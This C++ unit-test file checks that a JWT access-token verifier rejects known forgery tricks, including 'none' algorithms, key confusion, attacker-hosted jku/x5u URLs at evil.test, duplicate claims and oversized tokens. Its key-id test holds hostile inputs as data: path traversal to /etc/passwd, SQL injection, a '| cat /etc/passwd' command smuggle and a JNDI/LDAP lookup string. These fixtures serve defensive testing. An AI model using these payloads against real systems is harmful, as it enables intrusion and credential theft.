// One test for each known way to get past a check of tokens.

#include <gtest/gtest.h>

#include "access/token_fixture.hpp"

namespace filegate::access {
namespace {

class TokenAttacks : public ::testing::Test {
protected:
    // Signed with the right secret: only the header is wrong.
    std::string with_header(std::string const& header) {
        return token_of(header, world.claims(), hmac_signer(test_secret));
    }
    std::string with_claims(std::string const& claims) {
        return token_of(R"({"alg":"HS256"})", claims, hmac_signer(test_secret));
    }

    TokenWorld world;
};

TEST_F(TokenAttacks, a_good_token_is_taken_or_nothing_below_means_anything) {
    world.start_with_secret();
    auto const taken = world.verify(world.good(R"(,"jti":"j1","iat":1)"));
    ASSERT_TRUE(taken);
    EXPECT_EQ(taken->subject.text(), "ann");
    EXPECT_EQ(taken->id, "j1");
    EXPECT_EQ(words(taken->scopes), "files:read files:write files:query");
    EXPECT_EQ(world.verdict(with_header(R"({"alg":"HS256"})")), "taken");
}

// The library that checks signatures would stop the process over some of these.
TEST_F(TokenAttacks, parts_that_are_no_base64url_are_refused_before_the_library_sees_them) {
    world.start_with_secret();
    auto const good = world.good();
    auto const first = good.find('.');
    auto const second = good.rfind('.');
    for (auto const* const bad :
         {"=", "==", "!", "A=", "a=b", "f=Q", "c!e", "A", "AAAAA", "a b", "", "\xff", "AA\n"}) {
        EXPECT_EQ(world.verdict(good.substr(0, second + 1) + bad), "2002") << bad;
        EXPECT_EQ(world.verdict(good.substr(0, first + 1) + bad + good.substr(second)), "2002")
            << bad;
        EXPECT_EQ(world.verdict(bad + good.substr(first)), "2002") << bad;
        EXPECT_EQ(world.verdict(good + bad) == "taken", std::string_view(bad).empty()) << bad;
        EXPECT_EQ(world.verdict(good.substr(0, second) + bad + good.substr(second)) == "taken",
                  std::string_view(bad).empty())
            << bad;
    }
    EXPECT_EQ(world.verdict(good.substr(0, first) + ".eyJzdLCJhdWQiOlsiYSJdnJlYWQif=Q.c!eaktAarA"),
              "2002");
}

TEST_F(TokenAttacks, no_spelling_of_the_algorithm_none_gets_in) {
    world.start_with_secret();
    for (auto const* const alg : {"none", "None", "NONE", "nOnE", "none ", "", "hs256", "HS256 "}) {
        auto const header = R"({"alg":")" + std::string(alg) + R"("})";
        auto const unsigned_part = base64url(header) + "." + base64url(world.claims()) + ".";
        EXPECT_EQ(world.verdict(unsigned_part), "2002") << alg;
        EXPECT_EQ(world.verdict(with_header(header)), "2002") << alg;
    }
    for (auto const* const header :
         {R"({})", R"({"alg":null})", R"({"alg":["HS256"]})", R"({"alg":1})", R"({"typ":"JWT"})",
          R"({"Alg":"HS256"})", R"({"alg":"HS384"})", R"({"alg":"HS512"})", R"({"alg":"PS256"})",
          R"({"alg":"dir","enc":"A256GCM"})", R"([])", R"("HS256")", R"({"alg":"HS256"}{})"}) {
        EXPECT_EQ(world.verdict(with_header(header)), "2002") << header;
    }
}

TEST_F(TokenAttacks, a_signature_that_is_missing_cut_or_changed_gets_nowhere) {
    world.start_with_secret();
    auto const good = world.good();
    auto const dot = good.rfind('.');
    EXPECT_EQ(world.verdict(good.substr(0, dot)), "2002");
    EXPECT_EQ(world.verdict(good.substr(0, dot + 1)), "2002");
    EXPECT_EQ(world.verdict(good.substr(0, good.size() - 4)), "2002");
    EXPECT_EQ(world.verdict(good + "."), "2002");
    EXPECT_EQ(world.verdict(good + good), "2002");
    for (std::size_t i = 0; i + 1 < good.size(); ++i) {
        auto changed = good;
        changed[i] = changed[i] == 'A' ? 'B' : 'A';
        if (changed != good) EXPECT_EQ(world.verdict(changed), "2002") << i;
    }
}

TEST_F(TokenAttacks, a_public_key_is_no_hmac_secret) {
    auto const pair = KeyPair::rsa();
    auto const jwk = pair.jwk("k1");
    world.http.answer.body = jwks_of({jwk});
    auto const sign_with = [&](std::string const& secret) {
        return token_of(R"({"alg":"HS256","kid":"k1"})", world.claims(), hmac_signer(secret));
    };
    for (bool const has_secret : {false, true}) {
        world.start({.jwks = "https://issuer.test/jwks.json",
                     .secret = Secret(has_secret ? test_secret : "")});
        auto const genuine =
            token_of(R"({"alg":"RS256","kid":"k1"})", world.claims(), pair.signer());
        EXPECT_EQ(world.verdict(genuine), "taken");
        for (auto const& secret : {pair.public_pem(), jwk, world.http.answer.body})
            EXPECT_EQ(world.verdict(sign_with(secret)), "2002");
    }
}

TEST_F(TokenAttacks, a_shared_secret_signs_nothing_that_wants_a_public_key) {
    world.start_with_secret();
    for (auto const* const alg : {"RS256", "ES256"}) {
        EXPECT_EQ(world.verdict(with_header(R"({"alg":")" + std::string(alg) + R"("})")), "2002");
    }
}

TEST_F(TokenAttacks, a_secret_in_a_public_key_set_is_not_used) {
    world.http.answer.body = R"({"keys":[{"kty":"oct","kid":"k1","alg":"HS256","k":")" +
                             base64url(test_secret) + "\"}]}";
    world.start({.jwks = "https://issuer.test/jwks.json", .algorithms = {"HS256", "RS256"}});
    EXPECT_EQ(world.verdict(with_header(R"({"alg":"HS256","kid":"k1"})")), "2002");
}

TEST_F(TokenAttacks, an_algorithm_that_is_not_allowed_is_not_used_though_its_key_is_there) {
    auto const pair = KeyPair::rsa();
    world.http.answer.body = jwks_of({pair.jwk("k1")});
    world.start({.jwks = "https://issuer.test/jwks.json", .algorithms = {"ES256"}});
    auto const token = token_of(R"({"alg":"RS256","kid":"k1"})", world.claims(), pair.signer());
    EXPECT_EQ(world.verdict(token), "2002");
    EXPECT_EQ(world.http.requests, 0) << "nobody is asked for keys that are not used";
}

TEST_F(TokenAttacks, a_key_that_comes_with_the_token_is_not_believed) {
    auto const pair = KeyPair::ec();
    world.http.answer.body = jwks_of({KeyPair::ec().jwk("k1")});
    world.start_with_jwks();
    for (auto const& header :
         {R"({"alg":"ES256","jwk":)" + pair.jwk("k1") + "}",
          std::string(R"({"alg":"ES256","jku":"https://evil.test/jwks.json"})"),
          std::string(R"({"alg":"ES256","x5u":"https://evil.test/cert","kid":"k1"})")}) {
        EXPECT_EQ(world.verdict(token_of(header, world.claims(), pair.signer())), "2002") << header;
    }
    EXPECT_EQ(world.http.requests, 1) << "only the configured place was asked";
}

TEST_F(TokenAttacks, a_key_id_is_neither_a_path_nor_sql_nor_a_url) {
    auto const pair = KeyPair::rsa();
    world.http.answer.body = jwks_of({pair.jwk("k1")});
    world.start({.jwks = "https://issuer.test/jwks.json", .secret = Secret(test_secret)});
    for (auto const* const id :
         {"../../../../dev/null", "/etc/passwd", "/proc/self/environ", "x' UNION SELECT 'key",
          "'; DROP TABLE revocations; --", "https://evil.test/key", "file:///dev/null", "k1\\u0000",
          "| cat /etc/passwd", "${jndi:ldap://evil.test}", "k1 ", "K1"}) {
        auto const kid = R"(","kid":")" + std::string(id) + R"("})";
        // The empty file that /dev/null is would make an empty secret.
        EXPECT_EQ(
            world.verdict(token_of(R"({"alg":"HS256)" + kid, world.claims(), hmac_signer(""))),
            "2002")
            << id;
        auto const other = KeyPair::ec();
        EXPECT_EQ(world.verdict(token_of(R"({"alg":"RS256)" + kid, world.claims(), other.signer())),
                  "2002")
            << id;
    }
    for (auto const& kid : {std::string(R"(["k1"])"), std::string("1"), std::string("null"),
                            "\"" + std::string(key_id_bytes_max + 1, 'k') + "\""}) {
        EXPECT_EQ(world.verdict(with_header(R"({"alg":"HS256","kid":)" + kid + "}")), "2002")
            << kid;
    }
}

TEST_F(TokenAttacks, a_name_that_stands_twice_is_not_interpreted) {
    world.start_with_secret();
    EXPECT_EQ(world.verdict(with_header(R"({"alg":"none","alg":"HS256"})")), "2002");
    EXPECT_EQ(world.verdict(with_header(R"({"alg":"HS256","\u0061lg":"HS256"})")), "2002");
    auto const exp = std::to_string(world.now() + 60);
    for (auto const& claims :
         {R"({"sub":"ann","sub":"root","exp":)" + exp + "}",
          R"({"sub":"ann","s\u0075b":"root","exp":)" + exp + "}",
          R"({"sub":"ann","exp":1,"exp":)" + exp + "}",
          R"({"sub":"ann","x":{"a":1,"a":2},"exp":)" + exp + "}",
          R"({"sub":"ann","scope":"files:read","scope":"admin","exp":)" + exp + "}"}) {
        EXPECT_EQ(world.verdict(with_claims(claims)), "2002") << claims;
    }
}

TEST_F(TokenAttacks, what_a_header_calls_critical_is_not_skipped) {
    world.start_with_secret();
    for (auto const* const header :
         {R"({"alg":"HS256","crit":["exp"]})", R"({"alg":"HS256","crit":[]})",
          R"({"alg":"HS256","b64":false,"crit":["b64"]})"}) {
        EXPECT_EQ(world.verdict(with_header(header)), "2002") << header;
    }
}

TEST_F(TokenAttacks, a_signed_object_of_another_kind_is_no_access_token) {
    world.start_with_secret();
    for (auto const* const typ : {"secevent+jwt", "logout+jwt", "dpop+jwt", "JOSE", ""}) {
        EXPECT_EQ(
            world.verdict(with_header(R"({"alg":"HS256","typ":")" + std::string(typ) + "\"}")),
            "2002")
            << typ;
    }
    EXPECT_EQ(world.verdict(with_header(R"({"alg":"HS256","typ":"at+JWT"})")), "taken");
}

TEST_F(TokenAttacks, claims_that_are_missing_or_of_the_wrong_type_are_refused) {
    world.start_with_secret();
    auto const exp = std::to_string(world.now() + 60);
    for (auto const& claims : {
             std::string(R"({"sub":"ann"})"),
             R"({"exp":)" + exp + "}",
             R"({"sub":"","exp":)" + exp + "}",
             R"({"sub":null,"exp":)" + exp + "}",
             R"({"sub":7,"exp":)" + exp + "}",
             R"({"sub":["ann"],"exp":)" + exp + "}",
             R"({"sub":{"$ne":""},"exp":)" + exp + "}",
             R"({"sub":"ann\u0000root","exp":)" + exp + "}",
             R"({"sub":"ann\nroot","exp":)" + exp + "}",
             R"({"sub":")" + std::string(subject_bytes_max + 1, 'a') + R"(","exp":)" + exp + "}",
             R"({"sub":"ann","exp":")" + exp + "\"}",
             std::string(R"({"sub":"ann","exp":true})"),
             std::string(R"({"sub":"ann","exp":1e400})"),
             std::string(R"({"sub":"ann","exp":1e18})"),
             std::string(R"({"sub":"ann","exp":-1})"),
             std::string(R"({"sub":"ann","exp":99999999999999999999})"),
             R"({"sub":"ann","nbf":"soon","exp":)" + exp + "}",
             R"({"sub":"ann","iat":{},"exp":)" + exp + "}",
             R"({"sub":"ann","jti":7,"exp":)" + exp + "}",
             R"({"sub":"ann","iss":7,"exp":)" + exp + "}",
             R"({"sub":"ann","aud":7,"exp":)" + exp + "}",
             R"({"sub":"ann","scope":7,"exp":)" + exp + "}",
             R"({"sub":"ann","scope":{"admin":true},"exp":)" + exp + "}",
             "[" + exp + "]",
             std::string("ann"),
             std::string(),
         }) {
        EXPECT_EQ(world.verdict(with_claims(claims)), "2002") << claims;
    }
}

TEST_F(TokenAttacks, bytes_that_are_not_utf8_make_no_principal) {
    world.start_with_secret();
    auto const exp = std::to_string(world.now() + 60);
    EXPECT_EQ(world.verdict(with_claims("{\"sub\":\"ann\xff\",\"exp\":" + exp + "}")), "2002");
}

TEST_F(TokenAttacks, no_scope_grows_out_of_a_claim_that_grants_none) {
    world.start_with_secret();
    for (auto const* const extra :
         {R"(,"scope":"")", R"(,"scope":"Admin ADMIN adm in")", R"(,"scp":[])",
          R"(,"scope":"admin,files:read")", R"(,"scope":"","scp":"admin")"}) {
        auto const taken = world.verify(world.good(extra));
        ASSERT_TRUE(taken) << extra;
        EXPECT_TRUE(taken->scopes.is_empty()) << extra;
    }
    for (auto const* const extra :
         {R"(,"role":"service_role")", R"(,"role":"admin")",
          R"(,"user_metadata":{"scope":"admin"})", R"(,"app_metadata":{"scope":"admin"})"}) {
        EXPECT_FALSE(world.verify(world.good(extra))->scopes.has(Scope::admin)) << extra;
    }
}

TEST_F(TokenAttacks, a_token_of_a_megabyte_is_refused_before_it_is_looked_at) {
    world.start_with_secret();
    EXPECT_EQ(world.verdict(world.good(R"(,"x":")" + std::string(1 << 20, 'x') + "\"")), "2002");
    EXPECT_EQ(world.verdict(std::string(1 << 20, '.')), "2002");
    EXPECT_EQ(world.verdict(std::string(token_bytes_max, '.')), "2002");
    auto const deep = std::string(2500, '[') + std::string(2500, ']');
    EXPECT_EQ(world.verdict(world.good(R"(,"x":)" + deep)), "2002");
}

TEST_F(TokenAttacks, an_encrypted_or_nested_token_is_not_unpacked) {
    world.start_with_secret();
    EXPECT_EQ(world.verdict(base64url(R"({"alg":"dir","enc":"A128GCM"})") + "..AAAA.AAAA.AAAA"),
              "2002");
    EXPECT_EQ(world.verdict(with_claims(world.good())), "2002");
}

TEST_F(TokenAttacks, what_is_refused_is_refused_again_and_fills_no_memory) {
    world.start_with_secret();
    auto const forged = token_of(R"({"alg":"HS256"})", world.claims(), hmac_signer("wrong"));
    for (int i = 0; i < 3; ++i)
        EXPECT_EQ(world.verdict(forged), "2002");
}

TEST_F(TokenAttacks, no_refusal_says_what_the_token_says) {
    world.start({.issuer = "https://configured.test", .secret = Secret(test_secret)});
    for (auto const& token :
         {world.good(R"(,"iss":"SENTINEL")"), with_header(R"({"alg":"SENTINEL"})"),
          with_header(R"({"alg":"HS256","kid":["SENTINEL"]})"),
          with_claims(R"({"sub":["SENTINEL"],"exp":99999999999})"), std::string("SENTINEL")}) {
        auto const refused = world.verify(token);
        ASSERT_FALSE(refused);
        auto const& error = refused.error();
        EXPECT_GT(error.message.size(), 20U);
        for (auto const& secret : {std::string("SENTINEL"), std::string(test_secret), token,
                                   std::string("configured.test")}) {
            EXPECT_EQ((error.message + error.detail).find(secret), std::string::npos)
                << error.message;
        }
    }
    EXPECT_EQ(world.log.lines().size(), 0U);
}

}  // namespace
}  // namespace filegate::access
